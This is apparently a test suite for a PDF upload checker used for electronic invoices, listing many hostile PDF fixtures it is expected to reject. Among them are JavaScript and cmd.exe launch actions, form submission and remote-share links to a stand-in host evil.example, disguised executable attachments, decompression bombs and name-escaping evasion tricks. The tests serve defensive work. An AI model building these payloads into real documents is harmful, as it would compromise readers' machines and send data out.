import assert from 'node:assert/strict';
import { createCipheriv } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import { describe, test } from 'node:test';
import { deflateSync } from 'node:zlib';
import { checkPdf } from '../functions/_shared/files/check-pdf.ts';
import { createObjectStream, createStream, makePdf } from './support/make-pdf.ts';

const samples = new URL('samples/pdf/', import.meta.url);

describe('accepts a harmless PDF', () => {
  for (const file of readdirSync(samples)) {
    test(`written by ${file.replace('.pdf', '')}`, () =>
      assert.equal(checkPdf(readFileSync(new URL(file, samples))), null));
  }

  const harmlessFiles: readonly (readonly [string, Buffer])[] = [
    ['that opens at a page', makePdf('/OpenAction [3 0 R /Fit]')],
    ['that opens with a GoTo action', makePdf('/OpenAction 4 0 R', ['<< /S /GoTo /D [3 0 R /Fit] >>'])],
    [
      'with a link to the web',
      makePdf('', ['<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://a.example) >> >>']),
    ],
    ['with a form without scripts', makePdf('/AcroForm << /Fields [] >>')],
    [
      'with an object stream',
      makePdf('', [
        createObjectStream([
          [7, '<< /Producer (x) >>'],
          [8, '[1 2 3]'],
        ]),
      ]),
    ],
  ];
  for (const [description, bytes] of harmlessFiles)
    test(description, () => assert.equal(checkPdf(bytes), null));

  test('with random streams, 500 times', () => {
    // A cipher with a fixed key looks random, and is the same in each run.
    const random = createCipheriv('aes-128-ctr', Buffer.alloc(16), Buffer.alloc(16));
    const problems = Array.from({ length: 500 }, () =>
      checkPdf(makePdf('', [createStream(random.update(Buffer.alloc(200_000)))])),
    ).filter((problem) => problem !== null);
    assert.deepEqual(problems, []);
  });
});

describe('the XML of an electronic invoice', () => {
  const xml =
    '<?xml version="1.0"?><a:CrossIndustryInvoice xmlns:a="urn:a" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">Ü</a:CrossIndustryInvoice>';
  const name = '(factur\\055x.xml) /UF <FEFF006600610063007400750072002D0078002E0078006D006C>';
  const createSpecification = (list: string) => `<< /Type /Filespec /F ${name} /EF ${list} >>`;
  const deflated = deflateSync(xml);
  const file = createStream(deflated, '/Type /EmbeddedFile /Subtype /text#2Fxml /Filter /FlateDecode');
  const attach = (...objects: (string | Buffer)[]) =>
    makePdf('/Names << /EmbeddedFiles << /Names [(x) 9 0 R] >> >> /AF [9 0 R]', objects);
  const specification = createSpecification('<< /F 5 0 R /UF 5 0 R >>');
  const invoice = attach(specification, file);
  const attachStream = (...[content, ...rest]: Parameters<typeof createStream>) =>
    attach(specification, createStream(content, ...rest));
  const pack = (...objects: [number, string][]) => createObjectStream(objects);
  const append = (text: string) => Buffer.concat([invoice, Buffer.from(text, 'latin1')]);

  const acceptedFiles: readonly (readonly [string, Buffer])[] = [
    ['deflated', invoice],
    ['plain', attachStream(xml)],
    ['in an object stream', attach(pack([9, specification]), file)],
    ['with a list of files', attach(createSpecification('6 0 R'), file, '<< /F 5 0 R >>')],
    [
      'with a packed list of files',
      attach(pack([9, createSpecification('8 0 R')], [8, '<</F 5 0 R>>']), file),
    ],
    ['again in a signed revision', append(`4 0 obj ${specification} endobj`)],
  ];
  for (const [form, bytes] of acceptedFiles)
    test(`may be attached, ${form}`, () => assert.equal(checkPdf(bytes), null));

  const replace = (from: string, to: string) => {
    const text = invoice.toString('latin1');
    assert.ok(text.includes(from), from);
    return Buffer.from(text.split(from).join(to), 'latin1');
  };
  const second = (key: string) => `8 0 obj << /F (factur-x.xml) ${key} << /F 7 0 R >> >> endobj`;
  const program = '0 obj << /Length 2 >> stream\nMZ\nendstream endobj';
  const packedComment = createStream(deflateSync('% 1\n6 0 <</F 7 0 R>>'), '/First 0 /Filter /FlateDecode');
  const bomb = deflateSync(xml + ' '.repeat(50_000_000));
  const rejectedFiles: readonly (readonly [string, Buffer])[] = [
    ['and another file', append(second('/EF'))],
    ['and another file under an escaped name', append(second('/#45#46'))],
    ['and another file after a comment', append(second('/EF % x\n'))],
    ['and another file in an object stream', attach(specification, file, pack([8, second('/EF')]))],
    ['and a related file', append(second('/RF'))],
    ['and a script', append('8 0 obj << /S /JavaScript /JS (x) >> endobj')],
    ['under another name', replace(name, '(invoice.exe)')],
    ['under a name with an escaped ending', replace(name, '(factur-x.xml#29 /Desc #28.exe)')],
    ['under its name and another file', replace('/UF 5 0 R', '/UF 6 0 R')],
    ['under another name in UTF-16', replace('006D006C', '0068007400610000')],
    ['under two names', replace('/Type /Filespec', '/UF (invoice.hta)')],
    ['under a name in a comment', replace('<< /Type /Filespec', '<< /UF (a.hta) % << /Type /Filespec\n')],
    ['without a name', replace(`/F ${name}`, '')],
    ['with another object of the same number', append(`05 ${program}`)],
    ['with another object whose number is before a comment', append(`5 %\n${program}`)],
    ['with two lists', attach(createSpecification('6 0 R'), file, '<</F 5 0 R>>', '6 0 obj <</F 7 0 R>>')],
    ['with a hidden list', attach(createSpecification('6 0 R'), file, '<</F 5 0 R>>', packedComment)],
    [
      'with a text like a stream',
      attachStream('MZ', `/Length ${xml.length} /X (>> stream\n${xml}\nendstream)`),
    ],
    ['with a predictor', attachStream(deflated, '/Filter /FlateDecode /DecodeParms 7 0 R')],
    ['deflated twice', attachStream(deflated, '/Filter [/FlateDecode /FlateDecode]')],
    ['with two filters', attachStream(deflated, '/Filter /FlateDecode /Filter 7 0 R')],
    ['that inflates to 50 MB', attachStream(bomb, '/Filter /FlateDecode')],
    ['with a wrong length', attachStream(`${xml}MZ`, '', xml.length)],
    ['with two lengths', attachStream(xml, `/Length ${xml.length}`, 999)],
    ['that is a page', attachStream('<html><script>alert(1)</script></html>')],
    ['with a script', attachStream(xml.replace('Ü', '<x:p xmlns:x="http://www.w3.org/1999/xhtm&#108;"/>'))],
    ['with entities', attachStream(xml.replace('?>', '?><!DOCTYPE a [<!ENTITY b "c">]>'))],
    ['with a style sheet', attachStream(xml.replace('?>', '?><?xml-stylesheet href="x"?>'))],
    ['followed by a program', attachStream(`${xml}MZ`)],
  ];
  for (const [form, bytes] of rejectedFiles)
    test(`is rejected ${form}`, () => assert.equal(checkPdf(bytes), 'active'));
});

describe('rejects a hostile PDF', () => {
  const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';

  const payloads: readonly (readonly [string, string])[] = [
    ['a script', script],
    ['a script in a stream', '<< /S /JavaScript /JS 9 0 R >>'],
    ['a program launch', '<< /S /Launch /F (cmd.exe) >>'],
    ['a form submission', '<< /S /SubmitForm /F (https://evil.example) >>'],
    ['imported data', '<< /S /ImportData /F (x.fdf) >>'],
    ['a link to another file', '<< /S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit] >>'],
    ['a link to an embedded file', '<< /S /GoToE /T << /N (x) >> >>'],
    ['an attachment', '<< /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >>'],
    ['an attached stream', '<< /Type /EmbeddedFile /Length 0 >>'],
    ['media', '<< /Subtype /RichMedia /RichMediaContent << >> >>'],
    ['an XFA form', '<< /Fields [] /XFA 9 0 R >>'],
    ['an action on an event', '<< /AA << /O 9 0 R >> >>'],
    ['scripts by name', '<< /JavaScript << /Names [(x) 9 0 R] >> >>'],
    ['a script in a list', `[ 1 [ ${script} ] ]`],
  ];
  const escapeNames = (object: string) =>
    object.replaceAll(
      /\/(\w)(\w+)/g,
      (_, first: string, rest: string) =>
        `/${first}${[...rest].map((character) => `#${character.charCodeAt(0).toString(16).toUpperCase()}`).join('')}`,
    );
  const addComments = (object: string) => object.replaceAll(' ', ' % >> endobj\r\f\0');
  const removeSpaces = (object: string) => object.replaceAll(/ (?=[/<([])|(?<=[<[]) | (?=[>\]])/g, '');
  const replace = (object: Buffer, from: string, to: string) =>
    Buffer.from(
      object.toString('latin1').replace(from, () => to),
      'latin1',
    );
  const hidingPlaces: readonly (readonly [string, (object: string) => Buffer])[] = [
    ['in a plain object', (object) => makePdf('/A 4 0 R', [object])],
    ['inside the catalogue', (object) => makePdf(`/A ${object}`)],
    ['with escaped names', (object) => makePdf('/A 4 0 R', [escapeNames(object)])],
    ['between comments', (object) => makePdf('/A 4 0 R', [addComments(object)])],
    ['without spaces', (object) => makePdf('/A 4 0 R', [removeSpaces(object)])],
    [
      'after a string with brackets',
      (object) => makePdf('/A 4 0 R', [`[ (\\)>>]( endobj)) <28> ${object} ]`]),
    ],
    ['in an object stream', (object) => makePdf('/A 7 0 R', [createObjectStream([[7, object]])])],
    [
      'in an object stream without a type',
      (object) => makePdf('/A 7 0 R', [createObjectStream([[7, object]], { type: '' })]),
    ],
    [
      'in an object stream with a wrong length',
      (object) => makePdf('/A 7 0 R', [createObjectStream([[7, object]], { length: 3 })]),
    ],
    [
      'in an object stream after a comment',
      (object) =>
        makePdf('/A 7 0 R', [replace(createObjectStream([[7, object]]), '>>\nstream', '>>%\nstream')]),
    ],
    [
      'in an object stream with escaped names',
      (object) => makePdf('/A 7 0 R', [createObjectStream([[7, escapeNames(object)]])]),
    ],
    [
      'in an uncompressed object stream',
      (object) => makePdf('/A 7 0 R', [createStream(`7 0 ${object}`, '/N 1 /First 4')]),
    ],
    [
      'inside the bytes of a picture',
      (object) => makePdf('/A 7 0 R', [createStream(`xx\n7 0 obj ${object} endobj`, '/Subtype /Image')]),
    ],
    [
      'in an appended revision',
      (object) => Buffer.concat([makePdf(''), Buffer.from(`7 0 obj${object}endobj`)]),
    ],
    ['in the trailer', (object) => makePdf('', [], `/A ${object}`)],
  ];
  /** Any picture or font may contain names this short, so they count only outside streams. */
  const isShort = (payload: string) => /^(an attachment|an XFA form)$|event/.test(payload);
  for (const [place, hide] of hidingPlaces) {
    test(place, () => {
      const accepted = payloads
        .filter(([payload]) => !isShort(payload) || !/uncompressed|inside the bytes/.test(place))
        .filter(([, object]) => checkPdf(hide(object)) !== 'active');
      assert.deepEqual(
        accepted.map(([payload]) => payload),
        [],
      );
    });
  }

  const faultyFiles: readonly (readonly [string, Buffer, string])[] = [
    ['with a password', makePdf('', [], '/Encrypt << /Filter /Standard >>'), 'protected'],
    [
      'with an unknown compression',
      makePdf('', [createStream('x', '/N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]')]),
      'damaged',
    ],
    [
      'with corrupt compressed data',
      makePdf('', [createStream('xxxx', '/N 1 /First 4 /Filter /FlateDecode')]),
      'damaged',
    ],
    [
      'whose object streams together unpack to too many bytes',
      makePdf(
        '',
        Array.from({ length: 4 }, () => createObjectStream([[7, ' '.repeat(9_000_000)]])),
      ),
      'damaged',
    ],
    [
      'with too many object streams',
      makePdf('', Array(10_001).fill(createObjectStream([[7, '<<>>']]))),
      'damaged',
    ],
  ];
  for (const [description, bytes, problem] of faultyFiles)
    test(description, () => assert.equal(checkPdf(bytes), problem));

  test('within five seconds of CPU time, whatever its structure', () => {
    const started = process.cpuUsage();
    for (const fragment of [
      'obj(',
      'obj[',
      '1 0 obj<</A(',
      'obj ',
      'trailer(',
      '1 0 obj<</First 1/Filter/Fl>>stream\n',
      '1 0 obj<</First 0/Length 0>>stream\n',
      '1 0 obj<<>>%',
      '9',
      '<</F(factur-x.xml)/EF 1 0 R>>',
    ]) {
      checkPdf(Buffer.from(`%PDF-1.7\n${fragment.repeat(Math.ceil(4_000_000 / fragment.length))}`));
    }
    const bomb = createObjectStream([[7, ' '.repeat(100_000_000)]]);
    assert.equal(checkPdf(makePdf('', [bomb])), 'damaged');
    // Measures CPU time, because other processes may run at the same time.
    assert.ok(process.cpuUsage(started).user < 5_000_000);
  });
});
